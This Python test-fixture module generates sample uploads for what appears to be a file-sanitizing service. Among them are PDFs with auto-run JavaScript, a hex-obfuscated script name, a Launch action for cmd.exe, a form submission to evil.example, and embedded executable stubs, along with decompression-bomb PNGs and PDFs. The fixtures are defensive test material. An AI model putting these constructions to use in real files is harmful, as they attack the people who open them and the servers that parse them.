"""Files as customers send them, good and bad, made when they are needed."""

from __future__ import annotations

import struct
import zlib
from io import BytesIO
from typing import Any
from zipfile import ZipFile

from pikepdf import AttachedFileSpec, Dictionary, Encryption, Name, Pdf
from PIL import Image

PLACE = b"45.0703, 7.6869 Via Garibaldi"
AUTHOR = "Giulia Bianchi, via Garibaldi"


def jpeg(size: tuple[int, int] = (60, 40), *, rotated: bool = False) -> bytes:
    """A photo as a phone takes it: the left half red, with place, camera and a comment in it."""
    image = Image.new("RGB", size, "white")
    image.paste("red", (0, 0, size[0] // 2, size[1]))
    exif = Image.Exif()
    exif[0x010F] = "Fotocamera"
    exif[0x010E] = PLACE.decode()
    if rotated:
        exif[0x0112] = 6  # to be turned by 90 degrees clockwise
    return _saved(image, "JPEG", exif=exif, comment=PLACE)


def png(size: tuple[int, int] = (60, 40), mode: str = "RGB") -> bytes:
    return _saved(Image.new(mode, size), "PNG")


def animated_png() -> bytes:
    first, second = Image.new("RGB", (20, 20), "red"), Image.new("RGB", (20, 20), "blue")
    return _saved(first, "PNG", save_all=True, append_images=[second])


def huge_png(width: int, height: int) -> bytes:
    """A few bytes that say they are a picture of that size."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        checked = kind + content
        return struct.pack(">I", len(content)) + checked + struct.pack(">I", zlib.crc32(checked))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    body = zlib.compress(b"\0" * 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def pdf(pages: int = 1, **options: Any) -> bytes:
    """A PDF of blank pages; *options* are those of saving."""
    return _pdf(_blank(pages), **options)


def pdf_with_author() -> bytes:
    made = _blank(1)
    made.docinfo["/Author"] = AUTHOR
    with made.open_metadata() as metadata:
        metadata["dc:title"] = AUTHOR
    return _pdf(made)


def locked_pdf(password: str = "") -> bytes:
    return pdf(encryption=Encryption(owner="owner", user=password))


def active_pdfs() -> dict[str, bytes]:
    """PDFs that do more than show a page, by how."""
    return {
        "script when opened": _pdf(_with_action(S=Name.JavaScript, JS="app.alert(1)")),
        "script by an obfuscated name": pdf_with_obfuscated_script(),
        "programme launched": _pdf(_with_action(S=Name.Launch, F="cmd.exe")),
        "form sent somewhere": _pdf(_with_action(S=Name.SubmitForm, F="https://evil.example")),
        "another file opened": _pdf(_with_action(S=Name.GoToR, F="other.pdf")),
        "script in a list of names": _pdf(_with_script_names()),
        "file inside": _pdf(_with_attachment(b"MZ\x90\x00")),
        "PDF inside": _pdf(_with_attachment(pdf())),
        "archive inside": _pdf(_with_attachment(archive())),
        "script on a page": _pdf(_with_page_script()),
    }


def pdf_with_obfuscated_script() -> bytes:
    plain = _pdf(_with_action(S=Name.JavaScript, JS="app.alert(1)"), compress_streams=False)
    # The same name in another spelling, and two blanks less: every offset stays right.
    assert b") /S /JavaScript" in plain
    return plain.replace(b") /S /JavaScript", b")/S/Java#53cript")


def archive() -> bytes:
    target = BytesIO()
    with ZipFile(target, "w") as made:
        made.writestr("invoice.exe", b"MZ\x90\x00")
    return target.getvalue()


def memory_bomb(megabytes: int) -> bytes:
    """A small PDF whose one object stream unfolds to that many megabytes."""
    parts: dict[int, int] = {}
    out = BytesIO()

    def put(number: int, content: bytes) -> None:
        parts[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))

    squeezer = zlib.compressobj(1)
    body = squeezer.compress(b"10 0 <<>>")
    body += b"".join(squeezer.compress(b" " * 1_000_000) for _ in range(megabytes))
    body += squeezer.flush()
    out.write(b"%PDF-1.5\n")
    put(1, b"<</Type/Catalog/Pages 2 0 R/X 10 0 R>>")
    put(2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    put(3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")
    head = b"<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length %d>>" % len(body)
    put(4, head + b"stream\n" + body + b"\nendstream")
    start = parts[11] = out.tell()
    rows = b"".join(_row(parts, number) for number in range(12))
    put(11, b"<</Type/XRef/Size 12/W[1 4 2]/Root 1 0 R/Length %d>>stream\n%s\nendstream"
        % (len(rows), rows))  # fmt: skip
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def _row(parts: dict[int, int], number: int) -> bytes:
    if number == 10:
        return b"\x02" + (4).to_bytes(4, "big") + b"\0\0"
    return b"\x01" + parts[number].to_bytes(4, "big") + b"\0\0" if number in parts else b"\0" * 7


def _saved(image: Image.Image, kind: str, **options: Any) -> bytes:
    target = BytesIO()
    image.save(target, kind, **options)
    return target.getvalue()


def _blank(pages: int) -> Pdf:
    made = Pdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(200, 200))
    return made


def _pdf(made: Pdf, **options: Any) -> bytes:
    target = BytesIO()
    made.save(target, **options)
    return target.getvalue()


def _with_action(**action: Any) -> Pdf:
    made = _blank(1)
    made.Root.OpenAction = Dictionary(**action)
    return made


def _with_script_names() -> Pdf:
    made = _blank(1)
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=[]))
    return made


def _with_page_script() -> Pdf:
    made = _blank(1)
    made.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    return made


def _with_attachment(content: bytes) -> Pdf:
    made = _blank(1)
    made.attachments["hidden"] = AttachedFileSpec(made, content)
    return made
